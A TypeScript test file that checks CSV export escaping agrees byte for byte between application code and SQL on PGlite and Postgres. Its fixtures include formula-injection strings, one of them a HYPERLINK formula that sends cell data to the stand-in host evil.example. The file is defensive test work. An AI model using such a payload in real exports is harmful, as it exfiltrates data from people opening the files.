import { PGlite } from '@electric-sql/pglite';
import { sql } from 'drizzle-orm';
import { PgDialect } from 'drizzle-orm/pg-core';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CsvValue, csvRecord } from '../../src/cloud/exports/csv.ts';
import { csvLines } from '../../src/cloud/exports/csv-sql.ts';
import { createTestDatabase } from '../helpers/cloud.ts';

/**
 * The database writes every export's CSV records (csv-sql.ts); csvCell (csv.ts) is the
 * rule. Both must agree byte for byte on whatever a buyer can type, on both engines.
 */
const TEXTS: (string | null)[] = [
  null,
  '',
  'plain',
  'a,b',
  'say "hi"',
  'line\nbreak',
  'cr\rhere',
  'crlf\r\nhere',
  '=1+1',
  '+Bob',
  '-x',
  '@staff: sent away',
  '\tTab first',
  '\rCR first',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '-"quoted", and, commas',
  ' =space first',
  "'already an apostrophe",
  'Zoë\nZürich',
  'emoji 🎉 and 中文',
  '"',
  ',',
];
const NUMBERS: (number | null)[] = [null, 0, -1500, 2 ** 40, 7];
const BOOLS: (boolean | null)[] = [true, false, null];

const rows: [string | null, number | null, boolean | null, string][] = TEXTS.map((t, i) => [
  t,
  NUMBERS[i % NUMBERS.length]!,
  BOOLS[i % BOOLS.length]!,
  `k${String(i).padStart(3, '0')}`,
]);

const values = sql.join(
  rows.map(([t, n, b, k]) => sql`(${t}::text, ${n}::bigint, ${b}::boolean, ${k}::text)`),
  sql`, `,
);
const query = new PgDialect().sqlToQuery(
  csvLines(sql`select * from (values ${values}) v order by 4`, ['text', 'number', 'number', 'text'], [3], {
    withKeys: true,
  }),
);
// The boolean rides as 'number' above to show the kind only decides quoting; a real boolean column:
const boolQuery = new PgDialect().sqlToQuery(
  csvLines(
    sql`select * from (values (true, 1), (false, 2), (null::boolean, 3)) v order by 2`,
    ['boolean', 'number'],
    [1],
    {
      withKeys: false,
    },
  ),
);
const expected = rows.map(([t, n, b, k]) => csvRecord([t, n, b, k] as CsvValue[]));

describe.each(['PGlite', 'Postgres'] as const)('CSV records written by %s', (engine) => {
  let run: (text: string, params: unknown[]) => Promise<Record<string, unknown>[]>;
  let close: () => Promise<void>;
  beforeAll(async () => {
    if (engine === 'PGlite') {
      const db = new PGlite();
      run = async (text, params) => (await db.query<Record<string, unknown>>(text, params)).rows;
      close = () => db.close();
    } else {
      const client = new pg.Client({ connectionString: await createTestDatabase() });
      await client.connect();
      run = async (text, params) => (await client.query(text, params)).rows;
      close = () => client.end();
    }
  });
  afterAll(async () => {
    await close?.();
  });

  it('match csvCell byte for byte: quotes, formula-looking text, newlines, UTF-8, numbers, nulls', async () => {
    const got = await run(query.sql, query.params);
    expect(got.map((r) => r.line)).toEqual(expected);
    expect(got.map((r) => r.k0)).toEqual(rows.map((r) => r[3]));
  });

  it('write booleans as true and false, a null as an empty cell', async () => {
    const got = await run(boolQuery.sql, boolQuery.params);
    expect(got.map((r) => r.line)).toEqual(['true,1\r\n', 'false,2\r\n', ',3\r\n']);
    expect(Object.keys(got[0]!)).toEqual(['line']);
  });
});
